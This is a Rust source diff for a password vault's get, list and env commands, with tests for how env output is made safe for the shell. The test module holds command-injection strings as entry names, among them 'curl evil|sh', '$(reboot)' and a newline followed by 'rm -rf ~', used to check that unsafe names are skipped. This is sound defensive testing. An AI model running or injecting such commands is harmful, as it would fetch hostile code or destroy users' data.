@@ -0,0 +1,184 @@
+use anyhow::Ok;
+
+use crate::database::operations::Database;
+use crate::database::structures::{DatabaseFile, EntryType};
+use crate::{Env, Get, List};
+
+#[cfg(unix)]
+use super::agent::{request_from_agent, AgentRequest};
+
+/// Prints a single field of an entry, without a field the main secret of the entry like its password is printed
+pub fn get_entry(mut args: Get) -> Result<(), anyhow::Error> {
+    #[cfg(unix)]
+    if let Some(output) = request_from_agent(
+        &args.path,
+        &args.database_name,
+        &AgentRequest::Get {
+            entry: args.entry.clone(),
+            field: args.field.clone(),
+        },
+    ) {
+        print!("{}", output?);
+        return Ok(());
+    }
+
+    let db: DatabaseFile = *Database::new(&mut args.path, args.database_name.as_str())?;
+    print!("{}", get_output(&db, &args.entry, args.field.as_deref())?);
+    Ok(())
+}
+
+pub fn get_output(
+    db: &DatabaseFile,
+    entry: &str,
+    field: Option<&str>,
+) -> Result<String, anyhow::Error> {
+    let entry = db.find_entry(entry)?;
+    let field = match field {
+        Some(field) => entry.entry_type.field_by_key(field)?,
+        None => entry.entry_type.primary_field(),
+    };
+    Ok(format!("{}\n", entry.get_field(field)))
+}
+
+/// Prints all entries with their type and id, with `--fields` the available field names are added
+pub fn list_entries(mut args: List) -> Result<(), anyhow::Error> {
+    #[cfg(unix)]
+    if let Some(output) = request_from_agent(
+        &args.path,
+        &args.database_name,
+        &AgentRequest::List {
+            fields: args.fields,
+        },
+    ) {
+        print!("{}", output?);
+        return Ok(());
+    }
+
+    let db: DatabaseFile = *Database::new(&mut args.path, args.database_name.as_str())?;
+    print!("{}", list_output(&db, args.fields));
+    Ok(())
+}
+
+pub fn list_output(db: &DatabaseFile, fields: bool) -> String {
+    let mut output = String::new();
+    for entry in db.entries.iter() {
+        if fields {
+            let keys: Vec<_> = entry.fields().iter().map(|x| x.key).collect();
+            output.push_str(&format!(
+                "{}\t{}\t{}\t{}\n",
+                entry.title,
+                entry.entry_type.key(),
+                entry.id,
+                keys.join(",")
+            ));
+        } else {
+            output.push_str(&format!(
+                "{}\t{}\t{}\n",
+                entry.title,
+                entry.entry_type.key(),
+                entry.id
+            ));
+        }
+    }
+    output
+}
+
+/// Prints the environment variable entries as shell exports, use it with `eval "$(vault env -d <db>)"`
+pub fn env_entries(mut args: Env) -> Result<(), anyhow::Error> {
+    #[cfg(unix)]
+    if let Some(output) = request_from_agent(&args.path, &args.database_name, &AgentRequest::Env) {
+        print!("{}", output?);
+        return Ok(());
+    }
+
+    let db: DatabaseFile = *Database::new(&mut args.path, args.database_name.as_str())?;
+    print!("{}", env_output(&db));
+    Ok(())
+}
+
+/// Names which aren't valid shell variables are skipped, the output is evaluated by the shell
+pub fn env_output(db: &DatabaseFile) -> String {
+    let mut output = String::new();
+    for entry in db
+        .entries
+        .iter()
+        .filter(|x| x.entry_type == EntryType::EnvironmentVariable && !x.name.is_empty())
+    {
+        if !is_variable_name(&entry.name) {
+            eprintln!(
+                "Skipped '{}': {:?} is no valid variable name",
+                entry.title, entry.name
+            );
+            continue;
+        }
+        output.push_str(&format!(
+            "export {}='{}'\n",
+            entry.name,
+            entry.value.replace('\'', "'\\''")
+        ));
+    }
+    output
+}
+
+/// `[A-Za-z_][A-Za-z0-9_]*`
+fn is_variable_name(name: &str) -> bool {
+    let mut chars = name.chars();
+    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::database::structures::Config;
+    use crate::encryption_and_decryption::argon::KdfParams;
+    use chrono::Local;
+
+    fn env_vault(variables: &[(&str, &str)]) -> DatabaseFile {
+        let mut db = DatabaseFile {
+            entries: Vec::new(),
+            recycle_bin: Vec::new(),
+            tombstones: Vec::new(),
+            config: Config {
+                comment: String::new(),
+                author: String::from("test"),
+                recycle_bin_retention_days: 30,
+                sync_target: None,
+            },
+            last_access: Local::now(),
+            password: String::new(),
+            file_state: None,
+            kdf: KdfParams::default(),
+        };
+        for (name, value) in variables {
+            let id = db.add_empty_entry();
+            let entry = db.entries.iter_mut().find(|x| x.id == id).unwrap();
+            entry.entry_type = EntryType::EnvironmentVariable;
+            entry.title = name.to_string();
+            entry.name = name.to_string();
+            entry.value = value.to_string();
+        }
+        db
+    }
+
+    #[test]
+    fn quotes_values_for_the_shell() {
+        let db = env_vault(&[("TOKEN", "it's $HOME"), ("_private2", "x")]);
+        assert_eq!(
+            env_output(&db),
+            "export TOKEN='it'\\''s $HOME'\nexport _private2='x'\n"
+        );
+    }
+
+    #[test]
+    fn skips_names_which_would_run_commands() {
+        let db = env_vault(&[
+            ("X=1; curl evil|sh; Y", "value"),
+            ("$(reboot)", "value"),
+            ("1ST", "value"),
+            ("NAME\nrm -rf ~", "value"),
+            ("SAFE", "value"),
+        ]);
+        assert_eq!(env_output(&db), "export SAFE='value'\n");
+    }
+}